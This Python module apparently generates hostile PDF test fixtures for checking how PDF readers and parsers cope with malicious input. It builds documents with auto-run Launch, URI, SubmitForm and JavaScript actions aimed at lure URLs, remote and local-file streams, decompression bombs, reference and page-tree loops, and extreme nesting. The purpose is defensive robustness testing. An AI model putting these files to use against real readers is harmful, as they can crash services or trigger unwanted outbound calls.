"""PDF: actions, remote streams, loops, bombs, lies."""

import zlib

from strangers.common import Lure, Make, fixed, noise

_PAGE = (
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
    "/Resources<</Font<</F 5 0 R>>>>{}>>"
)
_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_SHOWN = b"BT /F 12 Tf 72 700 Td (Dear Ada, we ask for a reply.) Tj ET"


def stream(data: bytes, extra: str = "") -> bytes:
    """A stream object's body."""
    return f"<</Length {len(data)}{extra}>>stream\n".encode() + data + b"\nendstream"


def deflated(data: bytes, extra: str = "") -> bytes:
    """The same, compressed."""
    return stream(zlib.compress(data, 9), "/Filter/FlateDecode" + extra)


def pdf(*objects: bytes | str, trailer: str = "/Root 1 0 R", start: int | None = None) -> bytes:
    """Objects numbered from 1, with a table of where they are."""
    made, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        written = body if isinstance(body, bytes) else body.encode()
        made += f"{number} 0 obj\n".encode() + written + b"\nendobj\n"
    at = len(made)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    made += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}".encode()
    made += f"trailer\n<</Size {len(places) + 1}{trailer}>>\n".encode()
    return made + f"startxref\n{at if start is None else start}\n%%EOF\n".encode()


def paged(
    content: bytes = b"", catalog: str = "", page: str = "", *more: bytes | str, pages: str = ""
) -> bytes:
    """One page with this content stream (a body as :func:`stream` makes it)."""
    return pdf(
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        pages or "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        _PAGE.format(page),
        content or stream(_SHOWN),
        _FONT,
        *more,
    )


def _action(action: str) -> Make:
    return lambda lure: paged(
        b"", f"/OpenAction<<{action.format(url=lure.url, pipe=lure.pipe, canary=lure.canary)}>>"
    )


def _remote(target: str) -> Make:
    def make(lure: Lure) -> bytes:
        name = target.format(url=lure.url, pipe=lure.pipe.removeprefix("file://"))
        return paged(stream(b"", f"/F({name})"))

    return make


def _attached(lure: Lure) -> bytes:
    return paged(b"", "/Names<</EmbeddedFiles<</Names[(x)6 0 R]>>>>", "",
                 f"<</Type/Filespec/F({lure.canary})/EF<</F 7 0 R>>>>", stream(b"x"))  # fmt: skip


def _forms(count: int) -> bytes:
    """Form n draws form n+1 twenty times: an explosion of drawing."""
    forms = [
        stream(b"/X Do " * 20, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
               f"/Resources<</XObject<</X {n + 1} 0 R>>>>")
        for n in range(6, 6 + count)
    ]  # fmt: skip
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R"
        "/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>>>",
        stream(b"/X Do"), _FONT, *forms,
        stream(_SHOWN, "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>>>"),
    )  # fmt: skip


def _cascade(times: int, size: int) -> bytes:
    data = bytes(size)
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, f"/Filter[{'/FlateDecode ' * times}]")


def _wide_tree() -> bytes:
    kids = " ".join(["3 0 R"] * 100_000)
    return paged(pages=f"<</Type/Pages/Kids[{kids}]/Count 100000>>")


def _deep_tree() -> bytes:
    nodes = [
        f"<</Type/Pages/Kids[{n + 1} 0 R]/Count 1/Parent {n - 1} 0 R>>" for n in range(2, 3000)
    ]
    return pdf("<</Type/Catalog/Pages 2 0 R>>", *nodes, "<</Type/Page/MediaBox[0 0 9 9]>>")


def _object_streams_in_a_circle() -> bytes:
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        stream(b"3 0 <</A 2 0 R>>", "/Type/ObjStm/N 1/First 4/Extends 3 0 R"),
        stream(b"2 0 <</A 3 0 R>>", "/Type/ObjStm/N 1/First 4/Extends 2 0 R"),
    )


def _cmap() -> bytes:
    """A font whose table of letters maps a thousand million codes."""
    table = b"begincmap 1 beginbfrange <00000000> <3fffffff> <0041> endbfrange endcmap"
    return pdf(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", _PAGE.format(""),
        stream(_SHOWN),
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R>>",
        stream(table),
    )  # fmt: skip


_GOOD = paged()
FILES: dict[str, Make] = {
    "uri-action.pdf": _action("/S/URI/URI({url}/uri)"),
    "launch-action.pdf": _action("/S/Launch/F({canary})"),
    "remote-goto.pdf": _action("/S/GoToR/F({pipe})/D[0/Fit]"),
    "submit-action.pdf": _action("/S/SubmitForm/F<</FS/URL/F({url}/form)>>"),
    "import-action.pdf": _action("/S/ImportData/F({canary})"),
    "javascript.pdf": _action("/S/JavaScript/JS(this.submitForm\\('{url}/js'\\))"),
    "remote-stream.pdf": _remote("{url}/stream"),
    "file-stream.pdf": _remote("{pipe}"),
    "attached-by-path.pdf": _attached,
    "xref-loop.pdf": fixed(
        _GOOD.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % _GOOD.rindex(b"xref\n0"))
    ),
    "xref-nowhere.pdf": fixed(pdf("<</Type/Catalog/Pages 2 0 R>>", start=10**15)),
    "xref-negative.pdf": fixed(pdf("<</Type/Catalog/Pages 2 0 R>>", start=-5)),
    "xref-huge.pdf": fixed(_GOOD.replace(b"xref\n0 6", b"xref\n0 999999999")),
    "pages-loop.pdf": fixed(paged(pages="<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>")),
    "parent-loop.pdf": fixed(paged(pages="<</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>>")),
    "million-pages.pdf": fixed(paged(pages="<</Type/Pages/Kids[3 0 R]/Count 1000000000>>")),
    "wide-tree.pdf": lambda _: _wide_tree(),
    "deep-tree.pdf": lambda _: _deep_tree(),
    "object-streams.pdf": fixed(_object_streams_in_a_circle()),
    "reference-loop.pdf": fixed(pdf("2 0 R", "1 0 R")),
    "length-loop.pdf": fixed(paged(b"<</Length 4 0 R>>stream\nx\nendstream")),
    "bomb.pdf": lambda _: paged(deflated(b" " * 300_000_000)),
    "cascade.pdf": lambda _: paged(_cascade(3, 50_000_000)),
    "form-loop.pdf": fixed(
        paged(
            stream(b"/X Do"),
            "",
            "/Resources<</XObject<</X 6 0 R>>>>",
            stream(
                b"/X Do",
                "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>",
            ),
        )
    ),
    "form-explosion.pdf": fixed(_forms(12)),
    "deep-array.pdf": fixed(paged(b"", "/A" + "[" * 50_000 + "]" * 50_000)),
    "deep-content.pdf": fixed(paged(stream(b"[" * 100_000))),
    "many-states.pdf": lambda _: paged(deflated(b"q " * 2_000_000)),
    "many-letters.pdf": lambda _: paged(
        deflated(b"BT /F 1 Tf " + b"1 0 Td (a) Tj " * 400_000 + b"ET")
    ),
    "many-lines.pdf": lambda _: paged(deflated(b"0 0 m 9 9 l S " * 500_000)),
    "huge-numbers.pdf": fixed(paged(stream(b"BT /F 1e308 Tf 9e999 -9e999 Td (a) Tj ET"))),
    "huge-page.pdf": fixed(_GOOD.replace(b"[0 0 612 792]", b"[0 0 1e30 1e30]")),
    "cmap.pdf": fixed(_cmap()),
    "predictor.pdf": fixed(
        paged(deflated(b"x" * 99, "/DecodeParms<</Predictor 15/Columns 2000000000>>"))
    ),
    "encrypted.pdf": fixed(
        _GOOD.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Standard/V 5/R 6/O()/U()>>")
    ),
    "truncated.pdf": fixed(_GOOD[: len(_GOOD) // 2]),
    "header-only.pdf": fixed(b"%PDF-1.7\n"),
    "noise.pdf": fixed(b"%PDF-1.7\n" + noise(200_000)),
    "two-roots.pdf": fixed(_GOOD + _GOOD),
}
